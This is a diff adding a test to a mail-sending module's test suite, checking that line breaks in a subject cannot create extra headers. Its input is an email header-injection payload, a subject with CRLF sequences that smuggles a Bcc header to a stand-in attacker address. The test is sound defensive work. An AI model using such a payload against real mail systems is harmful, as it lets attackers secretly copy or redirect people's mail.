@@ -33,6 +33,17 @@ test("a mail goes out through the mail server, complete, from the owner's addres
   expect(await listSavedMails(savedMailsFolder())).toEqual([]);
 });
 
+test("a line break in a subject or a name makes no header of its own", async () => {
+  open(server.url);
+  sendMail({ ...mail, subject: "A name\r\nBcc: thief@evil.example\r\n\r\nAnother body" });
+  await mailsDelivered();
+  const [taken] = server.mails;
+  expect(taken?.to).toEqual([mail.to]);
+  const [head = ""] = (taken?.text ?? "").split(/\r?\n\r?\n/);
+  expect(head).not.toMatch(/^bcc:/im);
+  expect(head).toMatch(/^subject: A name/im);
+});
+
 test("without a mail server, or when it rejects a mail, the mail is saved", async () => {
   open("");
   expect(mailLeaves()).toBe(false);
